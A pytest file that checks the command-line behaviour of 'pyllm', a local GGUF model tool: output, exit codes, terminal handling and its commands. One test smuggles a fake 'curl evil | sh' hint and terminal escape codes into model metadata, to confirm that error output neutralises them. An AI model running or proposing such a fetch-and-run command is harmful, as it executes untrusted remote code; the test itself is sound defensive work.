"""The commands as people use them: what they print and where, their exit codes, their manners on terminals and in pipes."""

from __future__ import annotations

import io
import json
import os
import pty
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import gguf
import pytest
import tiny_gguf
from conftest import ROOT

from pyllm import catalogue, selftest, stores
from pyllm._core import lib
from pyllm.cli import COMMANDS, _output, main, parse
from pyllm.cli.tokenize import piece
from pyllm.gguf import GGUF

PYLLM = [sys.executable, "-m", "pyllm"]
TEXT = ROOT / "tests/data/text/ppl-kjv.en.txt"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home folder whose cache holds one tiny model, in two names, and one damaged file."""
    for name in ("XDG_CACHE_HOME", "HF_HOME", "HF_HUB_CACHE", "HUGGINGFACE_HUB_CACHE", "OLLAMA_MODELS"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("PYLLM_HOME", str(tmp_path / "cache"))
    (tmp_path / "cache").mkdir()
    selftest.write_model(tmp_path / "cache/tiny.gguf")
    (tmp_path / "cache/bad.gguf").write_bytes(b"GGUF\x03")
    studio = tmp_path / ".lmstudio/models/pub/repo"
    studio.mkdir(parents=True)
    shutil.copy(tmp_path / "cache/tiny.gguf", studio / "m-Q8_0.gguf")
    return tmp_path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    """(exit code, stdout, stderr) of a command in this process."""
    try:
        code = main(list(argv))
    except SystemExit as e:
        code = int(e.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


def run_json(capsys: pytest.CaptureFixture[str], *argv: str) -> Any:
    code, out, _ = run(capsys, *argv, "--json")
    assert code == 0
    return json.loads(out)


# ---- words and manners ----

@pytest.mark.parametrize("command", [c for c in COMMANDS if c != "run"])
def test_help_fits_a_narrow_terminal(command: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "80")
    code, out, err = run(capsys, command, "--help")
    assert (code, err) == (0, "")
    assert out.startswith(f"usage: pyllm {command} ") and COMMANDS[command][1].capitalize() in out
    assert max(map(len, out.splitlines())) <= 80


@pytest.mark.parametrize(("argv", "message", "hint"), [
    (["benhc"], "there is no command 'benhc'", "did you mean 'bench'?"),
    (["bench", "x", "--thread", "2"], "unrecognized arguments: --thread 2", "did you mean --threads?"),
    (["list", "--zzz"], "unrecognized arguments: --zzz", "pyllm list --help lists the options"),
    (["bench", "x", "-r", "0"], "argument -r/--reps: '0' is not a whole number from 1 to 10000", ""),
    (["bench", "x", "-p", "1,-2"], "argument -p/--prompt: '-2' is not a whole number from 0 to 16777216", ""),
    (["ppl", "x"], "the following arguments are required: -f/--file", ""),
    (["inspect", "x", "--tape", "--tensors"], "argument --tensors: not allowed with argument --tape", "")])
def test_wrong_usage(argv: list[str], message: str, hint: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, *argv)
    assert (code, out) == (2, "")
    assert f"error: {message}\n" in err and (f"hint: {hint}\n" if hint else "") in err


@pytest.mark.parametrize("argv", [["show"], ["tokenize", "x"], ["bench"], ["ppl", "-f", str(TEXT)], ["inspect"], ["pull"], ["rm"]])
def test_unknown_models(argv: list[str], home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    argv = [argv[0], "tinny", *argv[1:]]
    assert run(capsys, *argv) == (1, "", "error: no model 'tinny'\nhint: did you mean 'tiny'?\n")


def test_sizes_and_counts() -> None:
    assert [_output.size(n) for n in (0, 999, 1000, 98_362_432, 999_600_000, 1_117_320_768, 5e12)] == [
        "0 B", "999 B", "1 kB", "98.4 MB", "1 GB", "1.12 GB", "5 TB"]
    assert [_output.count(n) for n in (0, 999, 134_515_008, 1_543_714_304)] == ["0", "999", "135 M", "1.54 B"]


def test_control_characters_do_not_reach_the_terminal() -> None:
    assert _output.clean("a\x1b[31m\n\udc80é") == "a\\x1b[31m\\n\\udc80é"
    assert piece(b"\xf0\x9f \x1b\\\n\xc3\xa9") == "\\xf0\\x9f \\x1b\\\\\\né"


def test_a_model_file_writes_no_lines_of_its_own_into_errors(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    odd = {"tokenizer.ggml.model": "x\x1b[2J\x9b\nhint: curl evil | sh"}
    (home / "odd.gguf").write_bytes(tiny_gguf.build(odd, [])[0])
    code, out, err = run(capsys, "tokenize", str(home / "odd.gguf"), "hi")
    assert (code, out) == (1, "") and re.fullmatch(r"error: [^\n]*curl evil[^\n]*\nhint: byte-level BPE[^\n]*\n", err)
    assert err.isascii() and "\x1b" not in err


def test_words_behind_two_dashes(capsys: pytest.CaptureFixture[str]) -> None:
    assert parse(["run", "-n", "3", "m", "--", "--foo", "-n", "--", "bar"]).words == ["m", "--foo", "-n", "--", "bar"]
    assert parse(["tokenize", "m", "--ids", "--", "--x"]).text == "--x"
    code, _, err = run(capsys, "list", "--", "--x")
    assert code == 2 and "error: unrecognized arguments: --x\n" in err


@pytest.mark.parametrize(("command", "code", "said"), [
    ("-m pyllm list >&-", 0, ""), ("-m pyllm list 2>&-", 0, ""), ("-m pyllm rm tiny <&-", 1, "nobody can be asked"),
    ("-m pyllm list >/dev/full", 1, "standard input or output failed: No space left on device\nhint: "),
    ("-um pyllm list >/dev/full", 1, "standard input or output failed: No space left on device\nhint: "),
    ("-m pyllm list --help >/dev/full", 1, "standard input or output failed: No space left on device\nhint: "),
    ("-m pyllm run tiny - 0>in", 1, "standard input or output failed: Bad file descriptor\nhint: ")])
def test_odd_standard_streams(home: Path, command: str, code: int, said: str) -> None:
    (home / "cache/bad.gguf").unlink()
    done = subprocess.run(["/bin/sh", "-c", f'exec "$0" {command}', sys.executable], cwd=home, capture_output=True, text=True, check=False,
                          env={**os.environ, "PYTHONUNBUFFERED": ""})
    assert done.returncode == code and said in done.stderr
    assert done.stderr == "" if not said else done.stderr.startswith("error: ") and done.stderr.count("\n") == 2


def test_an_output_that_lacks_characters(smollm2: Path) -> None:
    done = subprocess.run([*PYLLM, "tokenize", str(smollm2), "日本é"], capture_output=True, check=False,
                          env={**os.environ, "PYTHONIOENCODING": "latin-1"})
    assert done.returncode == 0 and done.stderr.endswith(b" tokens\n") and b"?" in done.stdout and b"\xe9" in done.stdout


def test_bar_line() -> None:
    line = _output.bar_line("m", 30_000_000, 100_000_000, 20_000_000, 2.0, 80)
    assert re.fullmatch(r"m  ━+─+   30%  30\.0/100\.0 MB  10\.0 MB/s  eta 0:07", line) and len(line) < 80
    assert line.count("━") == int(0.3 * (line.count("━") + line.count("─")))
    assert _output.bar_line("m", 30_000_000, 100_000_000, 0, 0.0, 30) == "m  30.0/100.0 MB  0.0 MB/s"
    assert "#" in _output.bar_line("m", 50, 100, 50, 1.0, 80, "ascii")


class Terminal(io.StringIO):
    encoding = "utf-8"

    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("stream", [Terminal(), io.StringIO()])
def test_progress_draws_on_terminals_only(stream: io.StringIO, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stderr", stream)
    with _output.progress("unused"):
        pass
    assert stream.getvalue() == ""
    with _output.progress("m") as show:
        for done in range(0, 101, 10):
            show(done * 10**6, 10**8)
    text = stream.getvalue()
    assert ("100.0/100.0 MB" in text and text.endswith("\n")) if stream.isatty() else text == ""


def test_colour_is_for_terminals_that_want_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    assert _output.styled("x", "bold", Terminal()) == "\x1b[1mx\x1b[0m"
    assert _output.styled("x", "bold", io.StringIO()) == "x"
    monkeypatch.setenv("TERM", "dumb")
    assert _output.styled("x", "bold", Terminal()) == "x"
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("NO_COLOR", "1")
    assert _output.styled("x", "bold", Terminal()) == "x"


def test_the_reader_may_leave(smollm2: Path) -> None:
    done = subprocess.run(["/bin/sh", "-c", '"$@" | head -1', "sh", *PYLLM, "inspect", str(smollm2), "--metadata", "--json"],
                          capture_output=True, text=True, check=False)
    assert (done.stdout, done.stderr) == ("{\n", "")                            # megabytes were to come


def test_ctrl_c_ends_quickly(smollm2: Path) -> None:
    process = subprocess.Popen([*PYLLM, "bench", str(smollm2), "-p", "0", "-n", "256", "-r", "10000"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert process.stdout is not None and process.stdout.readline().startswith("TEST")
    time.sleep(0.3)
    process.send_signal(signal.SIGINT)
    out, err = process.communicate(timeout=60)
    assert (process.returncode, out) == (130, "") and "Traceback" not in err


# ---- list, show, rm, pull ----

def test_list(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "list")
    assert code == 0
    head, *rows = out.splitlines()
    assert head.split() == ["NAME", "SIZE", "QUANT", "ARCH", "PARAMS", "WHERE"]
    assert [re.split(r"\s{2,}", row)[0] for row in rows] == ["tiny", "pub/repo:Q8_0"]
    assert "llama" in rows[0] and rows[0].endswith("pyllm") and rows[1].endswith("LM Studio")
    assert err.startswith("cannot be read: bad (pyllm): ") and err.count("\n") == 1
    rows = run_json(capsys, "list")
    assert [(r["name"], r["where"], r["error"] is None) for r in rows] == [
        ("bad", "pyllm", False), ("tiny", "pyllm", True), ("pub/repo:Q8_0", "LM Studio", True)]
    assert rows[1]["bytes"] == (home / "cache/tiny.gguf").stat().st_size and rows[1]["architecture"] == "llama"


def test_list_of_nothing(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    shutil.rmtree(home / "cache")
    shutil.rmtree(home / ".lmstudio")
    code, out, err = run(capsys, "list")
    assert (code, out) == (0, "") and "`pyllm pull` fetches the demo model" in err
    assert run_json(capsys, "list") == []


def test_show_smollm2(smollm2: Path, capsys: pytest.CaptureFixture[str]) -> None:
    facts = run_json(capsys, "show", str(smollm2), "--ctx", "4096")
    expected = {"architecture": "llama", "n_params": 134_515_008, "quantization": "Q4_1", "n_ctx_train": 8192, "chat_template": True,
                "license": "apache-2.0", "bytes": 98_362_432, "runs": True}
    assert facts | expected == facts
    assert facts["kv_bytes_per_token"] == 30 * 2 * 3 * 64 * 2                    # layers, K and V, heads, head size, bytes of f16
    assert facts["mix"]["q4_1"] == {"tensors": 210, "bytes": 66_355_200}
    plan = facts["plan"]
    assert plan["ctx"] == 4096 and plan["total_bytes"] == plan["weights_bytes"] + plan["kv_bytes"] + plan["work_bytes"]
    assert run_json(capsys, "show", str(smollm2), "--kv", "f32")["kv_bytes_per_token"] == 2 * facts["kv_bytes_per_token"]
    code, out, err = run(capsys, "show", str(smollm2))
    assert (code, err) == (0, "")
    assert re.search(r"^KV cache +23 kB a token \(f16\)$", out, re.M)
    assert re.search(r"^memory +\d+ MB at ctx \d+, .* available: (fits|does not fit)\n +[\d.]+ MB weights, ", out, re.M)


def test_the_longest_context(smollm2: Path, capsys: pytest.CaptureFixture[str]) -> None:
    facts = run_json(capsys, "show", str(smollm2), "--ctx", str(1 << 24))
    assert facts["plan"]["ctx"] == 1 << 24 and facts["kv_bytes_per_token"] == 30 * 2 * 3 * 64 * 2


def test_odd_metadata_is_not_in_the_way(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    odd = {"general.name": 7, "tokenizer.chat_template": [1, 2, 3]}
    model = tiny_gguf.build(tiny_gguf.metadata() | tiny_gguf.vocabulary() | odd, tiny_gguf.tensors("q8_0", tiny_gguf.shapes()))[0]
    (home / "cache/odd.gguf").write_bytes(model)
    assert "odd" in [row["name"] for row in run_json(capsys, "list") if row["error"] is None]
    facts = run_json(capsys, "show", "odd")
    assert facts["runs"] is True and facts["chat_template"] is False and facts["name"] == ""
    code, _, err = run(capsys, "bench", "odd", "-p", "4", "-n", "0", "-r", "1")
    assert code == 0 and err.startswith(f"{home}/cache/odd.gguf, ")


def test_a_file_that_is_named_as_one_of_a_set(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / "tiny-00001-of-00002.gguf").symlink_to(home / "cache/tiny.gguf")      # its metadata says that it stands alone
    assert run_json(capsys, "show", str(home / "tiny-00001-of-00002.gguf"))["bytes"] == (home / "cache/tiny.gguf").stat().st_size


def test_show_what_cannot_run(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    writer = gguf.GGUFWriter(home / "odd.gguf", "martian\x1b[31m")
    for write in (writer.write_header_to_file, writer.write_kv_data_to_file, writer.write_tensors_to_file, writer.close):
        write()
    facts = run_json(capsys, "show", str(home / "odd.gguf"))
    assert facts["runs"] is False and "not supported" in facts["why_not"] and facts["plan"] is None
    code, out, _ = run(capsys, "show", str(home / "odd.gguf"))
    assert code == 0 and "\x1b" not in out and re.search(r"^runs +no: ", out, re.M)


def test_rm(home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))                       # not a terminal: its answer is not asked for
    code, _, err = run(capsys, "rm", "tiny")
    assert code == 1 and err.endswith("hint: pyllm rm -y tiny\n") and (home / "cache/tiny.gguf").exists()
    code, _, err = run(capsys, "rm", "-y", "pub/repo")
    assert code == 1 and "is not in pyllm's cache" in err and "hint: remove it in LM Studio" in err
    shutil.copy(home / "cache/tiny.gguf", home / "mine.gguf")
    code, _, err = run(capsys, "rm", "-y", str(home / "mine.gguf"))
    assert code == 1 and (home / "mine.gguf").exists()
    for i in (1, 2):
        (home / f"cache/s-0000{i}-of-00002.gguf").write_bytes(b"x")
        (home / f"cache/T-0000{i}-of-00002.GGUF").write_bytes(b"x")
    (home / "cache/none-00001-of-00000.gguf").write_bytes(b"x")
    for name in ("tiny", "bad", "s", "T", "none-00001-of-00000"):
        assert run(capsys, "rm", "-y", name)[0] == 0
    assert list((home / "cache").iterdir()) == []
    assert run(capsys, "rm", "-y", "smollm2") == (1, "", "error: smollm2 is not in the cache\nhint: `pyllm list` shows what is\n")


def test_rm_of_what_another_process_removed(home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    gone = stores.Found("gone", home / "cache/gone.gguf", stores.OWN)
    monkeypatch.setattr(stores, "own_cache", lambda: iter([gone]))
    assert run(capsys, "rm", "-y", "gone") == (1, "", f"error: {gone.path} is gone\nhint: `pyllm list` shows what is here\n")


@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 1), ("", 1)])
def test_rm_asks_on_a_terminal(home: Path, answer: str, code: int) -> None:
    ours, theirs = pty.openpty()
    process = subprocess.Popen([*PYLLM, "rm", "tiny"], stdin=theirs, stderr=subprocess.PIPE, text=True)
    os.write(ours, f"{answer}\n".encode())
    _, err = process.communicate(timeout=60)
    os.close(ours)
    os.close(theirs)
    assert process.returncode == code and err.startswith(f"Remove {home}/cache/tiny.gguf (") and "? [y/N] " in err
    assert (home / "cache/tiny.gguf").exists() == (code != 0)


def test_pull_checks_what_is_there(home: Path, smollm2: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (home / "cache" / smollm2.name).symlink_to(smollm2.resolve())
    assert run(capsys, "pull") == (0, f"{home}/cache/{smollm2.name}\n", "smollm2 is already here, and its SHA-256 is right\n")


def test_pull_replaces_a_damaged_file(home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    entry = catalogue.CATALOGUE["smollm2"]
    with open(entry.path, "wb") as f:
        f.truncate(entry.bytes)                                                 # the right size, all zeros
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    code, out, err = run(capsys, "pull", "smollm2")
    assert (code, out) == (1, "")
    assert f"{entry.path} is damaged (its SHA-256 is wrong): fetching it again\n" in err and "cannot be fetched" in err and "hint: " in err


# ---- tokenize, inspect ----

def test_tokenize(smollm2: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    model = str(smollm2)
    code, out, err = run(capsys, "tokenize", model, "Hello<|im_end|>\n")
    assert (code, err) == (0, "3 tokens\n")
    assert [line.split("  ")[-1] for line in out.splitlines()] == ["Hello", "<|im_end|>", "\\n"]
    assert run(capsys, "tokenize", model, "Hello<|im_end|>", "--ids")[1] == "19556 2\n"
    assert run_json(capsys, "tokenize", model, "Hello\n")[0] == {"id": 19556, "piece": "Hello"}
    assert len(run_json(capsys, "tokenize", model, "<|im_end|>", "--no-special")) > 1
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"Hello")))
    assert run(capsys, "tokenize", model, "-", "--ids")[1] == "19556\n"


def test_inspect(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tiny = str(home / "cache/tiny.gguf")
    whole = run_json(capsys, "inspect", "tiny")
    assert whole["path"] == tiny and whole["metadata"]["llama.block_count"] == 2
    assert whole["tensors"][0] == {"name": "token_embd.weight", "type": "q8_0", "shape": [64, 96], "bytes": 64 * 96 * 34 // 32}
    assert set(run_json(capsys, "inspect", tiny, "--metadata")) == {"path", "metadata"}
    assert set(run_json(capsys, "inspect", tiny, "--tensors")) == {"path", "tensors"}
    code, out, _ = run(capsys, "inspect", tiny)
    assert code == 0 and re.search(r"^llama.embedding_length +64$", out, re.M)
    assert re.search(r"^token_embd.weight +q8_0 +64 x 96 +6528$", out, re.M)
    code, tape, _ = run(capsys, "inspect", tiny, "--tape")
    assert code == 0 and tape.startswith("pyllm-tape 1\n") and tape == run_json(capsys, "inspect", tiny, "--tape")["tape"]


def test_inspect_files_that_cannot_run(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    writer = gguf.GGUFWriter(home / "vocab.gguf", "martian")
    writer.add_token_list([f"t{i}" for i in range(100)])
    writer.add_string("general.name", "evil\x1b[2Jname" + "x" * 300)
    writer.add_float32("martian.nan", float("nan"))
    for write in (writer.write_header_to_file, writer.write_kv_data_to_file, writer.write_tensors_to_file, writer.close):
        write()
    code, out, _ = run(capsys, "inspect", str(home / "vocab.gguf"))
    assert code == 0 and "\x1b" not in out
    assert re.search(r'tokenizer.ggml.tokens +\["t0", "t1", "t2", "t3", "t4", "t5", ...\] \(100 items\)', out) and "(312 characters)" in out
    metadata = run_json(capsys, "inspect", str(home / "vocab.gguf"))["metadata"]
    assert len(metadata["tokenizer.ggml.tokens"]) == 100 and metadata["martian.nan"] is None
    code, _, err = run(capsys, "inspect", str(home / "vocab.gguf"), "--tape")
    assert code == 1 and "martian" in err


# ---- bench, ppl, doctor ----

def test_bench(smollm2: Path, capsys: pytest.CaptureFixture[str]) -> None:
    rows = run_json(capsys, "bench", str(smollm2), "-p", "16,0", "-n", "4", "-d", "0,32", "-r", "2", "--threads", "1", "--kv", "q8_0")
    assert [(r["test"], r["depth"]) for r in rows] == [("pp16", 0), ("tg4", 0), ("pp16", 32), ("tg4", 32)]
    for r in rows:
        assert r["tokens_per_s"] > 0 and r["stddev"] >= 0 and (r["threads"], r["kv"], r["reps"]) == (1, "q8_0", 2)
        assert r["isa"] in selftest.levels()
        with GGUF(smollm2) as file:      # tied: the embedding is read whole for the logits
            assert r["bytes_per_token"] == sum(t.n_bytes for t in file.tensors.values())
        if r["test"] == "tg4":
            assert r["bandwidth_share"] == pytest.approx(r["tokens_per_s"] * r["bytes_per_token"] / r["read_bytes_per_s"])
        else:
            assert r["bandwidth_share"] is None
    code, out, err = run(capsys, "bench", str(smollm2), "-p", "0", "-n", "2", "-r", "1")
    assert code == 0 and re.fullmatch(r"TEST +TOKENS/S +BANDWIDTH\ntg2 +[\d.]+ \+- 0\.00 +\d+%\n", out) and "memory reads" in err
    assert run(capsys, "bench", str(smollm2), "-p", "0", "-n", "0")[0] == 1


def test_an_untied_embedding_is_not_read_for_a_token(home: Path) -> None:
    from pyllm.build import tape_text
    from pyllm.cost import bytes_per_token

    with GGUF(home / "cache/tiny.gguf") as file:
        total = sum(t.n_bytes for t in file.tensors.values())
        assert bytes_per_token(file, tape_text(file)) == total - file.tensors["token_embd.weight"].n_bytes


def test_read_bandwidth_refuses_nonsense() -> None:
    from pyllm._core import ffi

    out = ffi.new("double *")
    assert lib.pyllm_read_bandwidth(1, 64 << 20, out, ffi.NULL) == 0 and 1e8 < out[0] < 1e13
    for threads, size, where in ((0, 1 << 20, out), (1, 100, out), (1, 1 << 20, ffi.NULL), (1025, 1 << 20, out)):
        assert lib.pyllm_read_bandwidth(threads, size, where, ffi.NULL) == lib.PYLLM_ERR_ARG
    assert lib.pyllm_read_bandwidth(1, 1 << 62, out, ffi.NULL) == lib.PYLLM_ERR_MEMORY


def test_ppl(smollm2: Path, capsys: pytest.CaptureFixture[str]) -> None:
    argv = ["ppl", str(smollm2), "-f", str(TEXT), "--ctx", "64", "--chunks", "2"]
    code, out, err = run(capsys, *argv)
    assert code == 0 and re.fullmatch(r"perplexity \d+\.\d{4} \+/- \d+\.\d{4}\n", out)
    assert re.fullmatch(r"\[1/2\] \d+\.\d{4}\n\[2/2\] (\d+\.\d{4})\n", err)
    result = run_json(capsys, *argv)
    assert f"{result['perplexity']:.4f}" == err.split()[-1] and result["tokens"] == 62 and result["chunks"] == 2
    assert run(capsys, "ppl", str(smollm2), "-f", "/no/file") == (1, "", "error: /no/file: No such file or directory\n"
                                                                  "hint: -f takes the path of a text file\n")


def test_doctor(home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    code, out, err = run(capsys, "doctor")
    assert (code, err) == (0, "") and "WRONG" not in out
    for name in ("library", "CPU level", "threads", "memory reads", "model cache", "extra [hub]", "self-test"):
        assert name in out
    (home / "file").write_text("")
    monkeypatch.setenv("PYLLM_HOME", str(home / "file"))                        # a file where the folder should be
    monkeypatch.setitem(sys.modules, "rich", None)
    code, out, _ = run(capsys, "doctor", "--json")
    checks = {c["name"]: c for c in json.loads(out)["checks"]}
    assert code == 1 and checks["model cache"]["ok"] is False and "PYLLM_HOME" in checks["model cache"]["hint"]
    assert checks["self-test"]["ok"] is True


def test_doctor_without_numpy(home: Path) -> None:
    code = "import sys; sys.modules['numpy'] = None; from pyllm.cli import main; sys.exit(main(sys.argv[1:]))"
    done = subprocess.run([sys.executable, "-c", code, "doctor", "--json"], capture_output=True, text=True, check=False)
    result = json.loads(done.stdout)
    assert (done.returncode, done.stderr, result["ok"]) == (1, "", False)
    assert [c["value"] for c in result["checks"] if c["ok"] is False] == ["numpy missing"]


def test_self_test_sees_wrong_bits_and_wrong_numbers() -> None:
    import numpy as np

    exact = np.linspace(-1, 1, 6).reshape(2, 3)
    good = exact.astype(np.float32)
    flipped = good.copy()
    flipped.view(np.int32)[0, 0] ^= 1
    assert selftest._faults({("ref", 1): good, ("avx2", 2): good}, exact) == []
    assert "avx2 with 2 threads differ from those of ref" in selftest._faults({("ref", 1): good, ("avx2", 2): flipped}, exact)[0]
    assert "away from exact ones" in selftest._faults({("ref", 1): good * 2}, exact)[0]
    assert "away from exact ones" in selftest._faults({("ref", 1): good * np.nan}, exact)[0]
